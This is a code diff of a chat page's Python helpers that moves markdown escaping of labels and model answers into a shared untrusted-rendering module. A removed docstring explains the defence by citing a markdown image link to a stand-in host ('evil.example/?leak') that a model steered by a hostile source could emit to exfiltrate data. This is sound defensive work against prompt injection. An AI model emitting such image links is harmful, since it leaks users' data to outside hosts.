@@ -1,7 +1,7 @@
 """Pure helpers of the Chat page: chip labels, badge colours, Graph Explorer links (tested without a browser).
 
-Everything shown comes from the corpus, the model or the user, so every label is escaped for Streamlit's
-markdown (no link, emphasis or HTML can be injected through a title or a concept label).
+Everything shown comes from the corpus, the model or the user, so every label and answer goes through the one
+rendering rule of regintel/ui/untrusted.py (no link, image, emphasis or HTML through a title, label or answer).
 """
 
 from __future__ import annotations
@@ -11,28 +11,15 @@ from urllib.parse import quote
 
 from regintel.chat.evidence import EXPLANATIONS
 from regintel.chat.response import ChatResponse, CitedSource
+from regintel.ui.untrusted import markdown_answer, markdown_label
 
 MODE_COLOURS = {"DIRECT": "green", "QUALIFIED": "orange", "ABSTAIN": "red"}
 LEVEL_COLOURS = {"high": "green", "medium": "orange", "low": "red"}
 AUTHORITY_NAMES = {"eu_law": "EU law", "national_law": "national law", "regulator_guidance": "regulator guidance",
                    "industry": "industry", "guidance": "guidance"}
-MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:&])")  # & too: "&lt;" shows as typed
-
-
-def escape_markdown(text: object) -> str:
-    """Backslash-escape markdown (and HTML angle brackets) in a label; newlines become spaces."""
-    return MARKDOWN_SPECIAL.sub(r"\\\1", " ".join(str(text or "").split()))
-
-
-ANSWER_SPECIAL = re.compile(r"([\[\]<>])")
-
-
-def answer_markdown(text: str) -> str:
-    """An answer (model output, possibly steered by a hostile source) as markdown that keeps its emphasis and
-    lists but cannot draw an image, a link or HTML: brackets and angle brackets are escaped, so "[1]" still
-    reads "[1]" while ``![x](https://evil.example/?leak)`` stays text and loads nothing. Per character, so it
-    can be applied to each streamed delta."""
-    return ANSWER_SPECIAL.sub(r"\\\1", text)
+# the page's historical names for the one rendering rule of regintel/ui/untrusted.py
+escape_markdown = markdown_label
+answer_markdown = markdown_answer
 
 
 def short_ref(ref: str) -> str:
